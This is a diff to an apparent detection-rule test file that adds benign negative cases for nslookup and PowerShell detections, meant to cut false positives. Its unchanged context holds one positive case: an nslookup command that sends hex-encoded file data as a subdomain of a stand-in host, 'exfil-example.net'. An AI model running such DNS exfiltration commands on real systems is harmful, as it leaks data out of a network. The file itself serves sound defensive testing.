@@ -252,7 +252,11 @@ CASES = {
     },
     "proc_nslookup_encoded_query": {
         "pos": [event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe 4d5a90000300000004000000ffff0000b8000000.d.exfil-example.net", original="nslookup.exe"))],
-        "neg": [event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe mail.corp.example", original="nslookup.exe"))],
+        "neg": [
+            event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe mail.corp.example", original="nslookup.exe")),
+            # a domain controller's GUID-based name is long but not encoded data
+            event("sysmon1", proc(SYS32 + "nslookup.exe", "nslookup.exe -type=CNAME 3f2504e0-4f89-11d3-9a0c-0305e82c3301._msdcs.corp.example", original="nslookup.exe")),
+        ],
     },
     "proc_dns_lookup_loop": {
         "pos": [
@@ -274,6 +278,8 @@ CASES = {
         "neg": [
             event("ps4104", script("Invoke-WebRequest -Uri https://dl.example.com/agent.msi -OutFile C:\\temp\\agent.msi")),
             event("ps4104", script("Invoke-RestMethod -Uri https://api.corp.example/health -Method Post -Body '{\"ok\":true}'")),
+            # "-Confirm" must not read as the irm alias
+            event("ps4104", script("Remove-Item C:\\temp\\old.txt -Confirm -Force\n$cfg = Get-Content C:\\app\\cfg.json\nSet-Service -Name app -StartupType Automatic -Method Post")),
         ],
     },
     "ps_socket_file_send": {
